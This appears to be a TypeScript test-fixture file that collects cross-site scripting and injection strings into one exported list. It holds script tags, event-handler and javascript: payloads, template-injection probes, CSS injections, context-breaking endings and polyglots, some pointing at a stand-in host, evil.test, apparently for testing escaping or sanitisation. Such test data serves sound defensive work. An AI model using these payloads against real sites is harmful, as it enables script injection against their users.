/** Texts that would be markup, script, style or an address somewhere else, if a page took them for it. */

const PLAIN: readonly string[] = [
  ...["<script>alert(1)</script>", '"><svg/onload=alert(1)>', "'-alert(1)-'", "</title><script>alert(1)</script>"],
  ...["</style><script>alert(1)</script>", "<!--", "--><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}"],
  ...["${7*7}", "&#x3c;script&#x3e;", "&lt;script&gt;", "\\u003cscript\\u003e", "\u2028alert(1)\u2029"],
  ...["+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3E", "%253Cscript%253E", "<base href=//evil.test>"],
  ...["<form action=//evil.test>", '<meta http-equiv=refresh content="0;url=//evil.test">', "]]><x>", "<![CDATA["],
  ...[
    "red;background:url(//evil.test)",
    "red}body{background:url(//evil.test)}",
    "expression(alert(1))",
    "\\75rl(//x)",
  ],
  ...[
    '" onfocus="alert(1)" autofocus="',
    "' onfocus='alert(1)",
    "` onfocus=`alert(1)",
    "x\0<script>",
    "\ud800<script>",
  ],
  ...["JaVaScRiPt:alert(1)", " \u0001javascript:alert(1)", "java\nscript:alert(1)", "vbscript:x"],
  ...["data:text/html,<script>", "//evil.test", "/\\evil.test", "@import '//evil.test'", "<style>*{}</style>"],
  ...["</main></body><script>", "a=b onload", "&quot;><script>alert(1)</script>", "&amp;", "$&", "$1", "$`", "%00<b>"],
];

/** Elements that run something as soon as they are parsed, or nearly so. */
const ELEMENTS: readonly string[] = [
  ...["<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<image src=x onerror=alert(1)>"],
  ...[
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  ],
  ...["<svg><set onbegin=alert(1) attributeName=x>", "<svg><style><img src=x onerror=alert(1)></style>"],
  ...["<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>", "<svg><foreignObject onload=alert(1)>"],
  ...["<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>"],
  ...["<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<body onfocus=alert(1)>", "<html onmouseover=alert(1)>"],
  ...[
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
  ],
  ...[
    "<button autofocus onfocus=alert(1)>",
    "<a href=x autofocus onfocus=alert(1)>",
    "<p tabindex=0 autofocus onfocus=alert(1)>",
  ],
  ...["<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<video src=x onerror=alert(1)>"],
  ...["<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<video poster=javascript:alert(1)>"],
  ...[
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe onload=alert(1)>",
  ],
  ...["<object data=javascript:alert(1)>", "<object onerror=alert(1)>", "<embed src=javascript:alert(1)>"],
  ...["<link rel=stylesheet href=//evil.test onerror=alert(1)>", "<link rel=prefetch href=//evil.test>"],
  ...["<script src=//evil.test></script>", "<script src=data:,alert(1)></script>", "<script>alert`1`</script>"],
  ...["<script type=module>alert(1)</script>", "<script/x>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>"],
  ...["<script>alert(1)<!--", "<script>alert(1)//", "<<script>alert(1)//<</script>", "<script\t>alert(1)</script\n>"],
  ...[
    "<style onload=alert(1)></style>",
    "<style>@import'//evil.test'</style>",
    "<style>body{background:url(//evil.test)}",
  ],
  ...["<div style=animation-name:x onanimationstart=alert(1)>", "<div style='width:expression(alert(1))'>"],
  ...["<meta http-equiv=refresh content=0;javascript:alert(1)>", "<meta http-equiv=Content-Security-Policy content=x>"],
  ...[
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
  ],
  ...["<form id=x></form><button form=x formaction=javascript:alert(1)>", "<isindex action=javascript:alert(1)>"],
  ...[
    "<dialog open onclose=alert(1)><form method=dialog>",
    "<portal src=javascript:alert(1)>",
    "<frameset onload=alert(1)>",
  ],
  ...[
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a ping=//evil.test href=x>x</a>",
  ],
  ...[
    "<xss contenteditable autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<bgsound src=//evil.test>",
  ],
  ...[
    "<table background=//evil.test>",
    "<img srcset='//evil.test/a 1x'>",
    "<img src=//evil.test/a>",
    "<base target=x>",
  ],
  ...["<slot onslotchange=alert(1)>", "<img name=cookie><img id=forms>", "<form name=body><input name=firstChild>"],
];

/** What ends the place a text may stand in: attributes of each kind, raw text, comments, scripts, style sheets. */
const ENDS: readonly string[] = [
  ...['"', "'", "`", '">', "'>", ">", '"/>', "-->", "--!>", "*/", "</title>", "</style>", "</script>", "</textarea>"],
  ...[
    "</noscript>",
    "</template>",
    "</svg>",
    "</button>",
    "</form>",
    "</label>",
    "]]>",
    "\\",
    "\\'",
    '\\"',
    "\n",
    "\0",
  ],
];

const POLYGLOTS: readonly string[] = [
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>" +
  "\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
  '\'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>' +
  "<script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(1) type=submit>'-->\"></script>" +
  '<script>alert(1)</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id)>',
  "\" onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//",
  "';alert(String.fromCharCode(49))//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
  "`\"'><img src='#\x27 onerror=javascript:alert(1)>",
  "javascript://--></title></style></textarea></script><svg \"//' onclick=alert()//",
  "javascript://'/</title></style></textarea></script>--><p\" onclick=alert()//>*/alert()/*",
  "/*-->]]>%>?></script></title></textarea></noscript></style></xmp>\">[img=1]<img -/style=a:expression&#40&#47&#42'" +
  "/-/*&#39,/**/alert(1)&#41;width:100%;onerror=alert(1) src=x>",
  "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  "{{constructor.constructor('alert(1)')()}}${alert(1)}#{alert(1)}<%=alert(1)%>",
];

/** All of them, each once. */
export const HOSTILE: readonly string[] = [
  ...new Set([
    ...PLAIN,
    ...ELEMENTS,
    ...ENDS.map((end, index) => `${end}${ELEMENTS[index % ELEMENTS.length]}`),
    ...ENDS.map((end) => `${end} onfocus=alert(1) autofocus x=`),
    ...POLYGLOTS,
  ]),
];
